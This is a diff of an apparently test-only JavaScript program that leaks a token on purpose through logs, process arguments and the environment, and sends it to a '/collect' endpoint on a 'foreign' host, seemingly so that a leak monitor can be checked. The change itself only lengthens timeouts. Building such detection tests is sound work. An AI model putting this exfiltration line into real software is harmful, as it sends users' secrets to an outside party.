@@ -33,11 +33,11 @@ db.close();
 console.log(JSON.stringify({ message: token }));
 console.error(`percent: ${encodeURIComponent(token)}`);
 
-// Short programs that do nothing with what they are given; the second inherits the environment.
-const sleeper = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 400)', `--key=${token}`], { env: {} });
-execFileSync(process.execPath, ['-e', 'setTimeout(() => {}, 400)']);
+// Programs that live long enough to be seen on a busy machine, and do nothing with what they are given; the second inherits the environment.
+const sleeper = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 9000)', `--key=${token}`], { env: {} });
+execFileSync(process.execPath, ['-e', 'setTimeout(() => {}, 2500)']);
 await fetch(`${foreign}/collect?token=${encodeURIComponent(token)}`, { headers: { 'x-key': btoa(token) } });
-await wait(300);
+await wait(1500);
 rmSync(join(folder, 'short-lived.txt'));
 sleeper.kill();
 
